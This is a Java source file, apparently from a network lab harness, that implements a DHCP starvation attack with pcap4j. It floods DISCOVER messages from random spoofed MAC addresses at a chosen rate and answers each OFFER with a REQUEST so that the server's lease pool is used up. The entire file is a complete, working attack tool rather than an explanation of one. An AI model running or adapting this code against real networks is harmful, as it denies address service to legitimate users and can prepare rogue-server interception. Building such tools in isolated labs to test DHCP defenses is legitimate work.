package lastlease.lab;

import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.Random;
import java.util.concurrent.locks.LockSupport;
import org.pcap4j.core.BpfProgram.BpfCompileMode;
import org.pcap4j.core.NotOpenException;
import org.pcap4j.core.PcapHandle;
import org.pcap4j.core.PcapNativeException;
import org.pcap4j.core.PcapNetworkInterface.PromiscuousMode;

/** A starvation attack: takes leases for random MACs, each the Ethernet source of its frames. */
final class Flood {
  private static final long IDLE_NANOS = 1_000_000;
  private static final int MAGIC = 0x63825363;

  private final PcapHandle wire;
  private final Random random = new Random(7);

  private Flood(PcapHandle wire) {
    this.wire = wire;
  }

  /** Starts it in a host of its own, with so many MACs a second. */
  static Process start(Host host, int perSecond) {
    return host.startJava("flood", Flood.class, Integer.toString(perSecond));
  }

  /** Runs in the attacker's host until it is killed; the argument is the rate. */
  public static void main(String[] args) throws Exception {
    PcapHandle wire =
        new PcapHandle.Builder("eth0")
            .snaplen(2000)
            .promiscuousMode(PromiscuousMode.PROMISCUOUS)
            .timeoutMillis(10)
            .immediateMode(true)
            .build();
    wire.setBlockingMode(PcapHandle.BlockingMode.NONBLOCKING);
    wire.setFilter("udp and src port 67", BpfCompileMode.OPTIMIZE);
    new Flood(wire).run(Integer.parseInt(args[0]));
  }

  private void run(int perSecond) throws PcapNativeException, NotOpenException {
    long gap = Duration.ofSeconds(1).toNanos() / perSecond;
    long next = System.nanoTime();
    while (true) {
      byte[] reply = wire.getNextRawPacket();
      if (reply != null) {
        accept(ByteBuffer.wrap(reply));
      } else {
        LockSupport.parkNanos(IDLE_NANOS);
      }
      if (System.nanoTime() >= next) {
        next += gap;
        byte[] mac = new byte[6];
        random.nextBytes(mac);
        mac[0] = (byte) (mac[0] & 0xfc | 2);
        wire.sendPacket(message(mac, random.nextInt(), new byte[] {53, 1, 1}));
      }
    }
  }

  /** Answers an OFFER with a REQUEST, in the name of the MAC that it was for. */
  private void accept(ByteBuffer reply) throws PcapNativeException, NotOpenException {
    int dhcp = 14 + (reply.get(14) & 0xf) * 4 + 8;
    if (reply.limit() < dhcp + 250 || reply.get(dhcp + 242) != 2) {
      return;
    }
    byte[] mac = new byte[6];
    reply.get(dhcp + 28, mac);
    ByteBuffer options = ByteBuffer.allocate(15).put(new byte[] {53, 1, 3, 50, 4});
    options.putInt(reply.getInt(dhcp + 16)).put(new byte[] {54, 4}).putInt(reply.getInt(26));
    wire.sendPacket(message(mac, reply.getInt(dhcp + 4), options.array()));
  }

  private static byte[] message(byte[] mac, int xid, byte[] options) {
    int length = 240 + Math.max(options.length + 1, 60);
    ByteBuffer frame = ByteBuffer.allocate(14 + 28 + length);
    frame.put(new byte[] {-1, -1, -1, -1, -1, -1}).put(mac).putShort((short) 0x0800);
    frame.put((byte) 0x45).put((byte) 0).putShort((short) (28 + length)).putInt(0);
    frame.put((byte) 64).put((byte) 17).putShort((short) 0).putInt(0).putInt(-1);
    int sum = 0;
    for (int i = 14; i < 34; i += 2) {
      sum += frame.getShort(i) & 0xffff;
    }
    frame.putShort(24, (short) ~((sum & 0xffff) + (sum >>> 16)));
    frame.putShort((short) 68).putShort((short) 67).putShort((short) (8 + length));
    frame.putShort((short) 0);
    int dhcp = frame.position();
    frame.put("\1\1\6\0".getBytes(StandardCharsets.US_ASCII)).putInt(xid);
    frame.putShort(dhcp + 10, (short) 0x8000);
    frame.put(dhcp + 28, mac).putInt(dhcp + 236, MAGIC);
    frame.put(dhcp + 240, options).put(dhcp + 240 + options.length, (byte) -1);
    return frame.array();
  }
}
